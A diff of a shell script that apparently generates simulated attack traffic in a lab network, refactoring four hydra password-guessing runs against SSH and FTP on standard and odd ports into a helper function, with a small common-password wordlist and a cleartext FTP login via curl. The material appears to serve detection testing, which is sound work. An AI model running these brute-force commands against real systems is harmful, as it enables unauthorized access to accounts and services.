@@ -170,18 +170,16 @@ sleep 20
 printf '%s\n' admin root nurse password 123456 letmein Summer2026 qwerty welcome1 changeme \
   monkey dragon abc123 iloveyou sunshine princess football admin123 hospital clinic \
   passw0rd trustno1 master hello login starwars whatever shadow michael superman >"$out/words.txt"
-mark hydra-ssh-22 "hydra -t 4 ssh://10.99.0.10:22, 30 passwords, from 198.51.100.69"
-in_o timeout 120 hydra -I -t 4 -l admin -P "$out/words.txt" -s 22 10.99.0.10 ssh >"$out/hydra-ssh22.txt" 2>&1 || true
-sleep 10
-mark hydra-ssh-2222 "hydra -t 4 ssh on the odd port 2222"
-in_o timeout 120 hydra -I -t 4 -l admin -P "$out/words.txt" -s 2222 10.99.0.10 ssh >"$out/hydra-ssh2222.txt" 2>&1 || true
-sleep 10
-mark hydra-ftp-21 "hydra -t 4 ftp://10.99.0.10:21"
-in_o timeout 120 hydra -I -t 4 -l nurse -P "$out/words.txt" -s 21 10.99.0.10 ftp >"$out/hydra-ftp21.txt" 2>&1 || true
-sleep 10
-mark hydra-ftp-2121 "hydra -t 4 ftp on the odd port 2121"
-in_o timeout 120 hydra -I -t 4 -l nurse -P "$out/words.txt" -s 2121 10.99.0.10 ftp >"$out/hydra-ftp2121.txt" 2>&1 || true
-sleep 10
+# hydra SERVICE PORT USER WHAT: four guessing threads against the web server, two minutes at most
+hydra_at() {
+  mark "hydra-$1-$2" "$4"
+  in_o timeout 120 hydra -I -t 4 -l "$3" -P "$out/words.txt" -s "$2" 10.99.0.10 "$1" >"$out/hydra-$1$2.txt" 2>&1 || true
+  sleep 10
+}
+hydra_at ssh 22 admin "hydra -t 4 ssh://10.99.0.10:22, 30 passwords, from 198.51.100.69"
+hydra_at ssh 2222 admin "hydra -t 4 ssh on the odd port 2222"
+hydra_at ftp 21 nurse "hydra -t 4 ftp://10.99.0.10:21"
+hydra_at ftp 2121 nurse "hydra -t 4 ftp on the odd port 2121"
 mark ftp-login "curl: the workstation logs in to an outside FTP server in the clear"
 in_s timeout 20 curl -s --interface 10.99.0.20 -o /dev/null "ftp://supplier:Supplier1@203.0.113.30/" || true
 sleep 5
